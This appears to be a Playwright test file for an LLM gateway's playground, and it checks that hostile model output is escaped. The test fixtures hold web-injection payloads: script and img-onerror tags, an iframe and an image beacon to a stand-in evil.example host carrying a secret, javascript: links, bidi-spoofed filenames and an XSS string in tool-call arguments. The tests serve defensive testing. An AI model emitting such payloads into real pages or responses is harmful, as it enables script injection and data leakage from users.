"""Hostile model output in the playground."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.playground_page import Playground, with_models
from tests.browser.site import Site
from tests.fakes import Call, ScriptedResponse, StrictOpenAI

MARKUP = """<script>document.title = "owned"</script><img src=x onerror="document.title='owned'">
<iframe src="https://evil.example/"></iframe><style>body { display: none }</style>

![beacon](https://evil.example/pixel.png?secret)
[run](javascript:document.title='owned') [data](data:text/html,hi) [fine](https://fine.example/a)

<b>bold</b> & *bro**ken `mark
| a | b
|--|
```html
<script>alert(1)
"""


@pytest.fixture(scope="module")
def upstream() -> Iterator[StrictOpenAI]:
    """A provider whose responses the tests choose."""
    with StrictOpenAI() as running:
        yield running


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, upstream: StrictOpenAI) -> Iterator[Site]:
    """A gateway with this provider."""
    running = Site(tmp_path_factory.mktemp("site"))
    try:
        yield with_models(running.with_users().start(), f"{upstream.url}/v1")
    finally:
        running.stop()


@pytest.fixture
def show_response(signed_in: Any, upstream: StrictOpenAI) -> Any:
    """A function that runs a prompt whose response is a text, and returns the playground."""

    def run(text: str, **how: Any) -> Playground:
        upstream.script.on("Now", ScriptedResponse(text=text, **how))
        playground = Playground(signed_in).open("strict", "demo/demo-fast").fill_prompt("Now")
        return playground.run().wait_until_done()

    return run


def test_html_in_model_output_is_escaped(show_response: Any) -> None:
    playground = show_response(MARKUP)
    page, response = playground.page, playground.response("A")
    assert response.locator("script, img, iframe, style, b").count() == 0
    expect(response).to_contain_text("<script>document.title")
    expect(response).to_contain_text("[image: beacon]")
    links = {link.inner_text(): link.get_attribute("href") for link in response.locator("a").all()}
    beacon = "https://evil.example/pixel.png?secret"
    assert links == {"[image: beacon]": beacon, "fine": "https://fine.example/a"}
    for link in response.locator("a").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert page.title() == "Playground · Dragoman"


def test_bidirectional_control_characters_are_shown(show_response: Any) -> None:
    response = show_response("pay \u202ecod.exe\u202c to `a\u2066b` and \u0007").response("A")
    marks = ["U+202E", "U+202C", "U+2066", "U+0007"]
    # A response is drawn a moment after its end: the markdown reader loads with the first one.
    expect(response.locator(".ctl")).to_have_text(marks)
    assert "\u202e" not in response.inner_text()


@pytest.mark.parametrize("chunk_chars", [4000, 2_000_000], ids=["in chunks", "all at once"])
def test_a_line_of_a_megabyte_does_not_freeze_the_page(
    show_response: Any, chunk_chars: int
) -> None:
    playground = show_response(
        "# Title\n\n" + "x" * 1_000_000 + "\n\nthe end", chunk_chars=chunk_chars
    )
    response = playground.response("A")
    expect(response.locator("h4")).to_have_text("Title")
    expect(response).to_contain_text("Longer than 200,000 characters")
    assert len(response.text_content() or "") < 210_000
    page = playground.page
    longest_frame_ms = page.evaluate(
        """() => new Promise(done => {
            const began = performance.now();
            requestAnimationFrame(() => requestAnimationFrame(() => done(performance.now() - began)));
        })"""
    )
    assert longest_frame_ms < 5_000
    page.fill("#pg-text", "still alive")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(">" * 3_900 + " deep", id="quotes in quotes"),
        pytest.param("[" * 3_900, id="open brackets"),
        pytest.param("*_" * 1_900, id="open emphasis"),
        pytest.param("- a\n" * 4_000, id="a long list"),
        pytest.param("\n".join(f"{'  ' * n}- {n}" for n in range(300)), id="a deep list"),
        pytest.param("|a" * 1_500 + "|\n" + "|-" * 1_500 + "|\n" + "|b" * 1_500, id="a wide table"),
    ],
)
def test_markdown_that_is_slow_to_parse_is_still_shown(show_response: Any, text: str) -> None:
    playground = show_response(f"{text}\n\nThe last words.", chunk_chars=500)
    expect(playground.response("A")).to_contain_text("The last words.")


def test_call_arguments_are_escaped(signed_in: Any, upstream: StrictOpenAI) -> None:
    call = Call("get_weather", {"city": "<img src=x onerror=alert(1)>"})
    upstream.script.on("weather", ScriptedResponse(calls=(call,)))
    playground = (
        Playground(signed_in).open("strict").insert_example("Call a tool").run().wait_until_done()
    )
    expect(playground.response("A").locator(".toolcall").first).to_contain_text("<img src=x")
    assert playground.response("A").locator("img").count() == 0
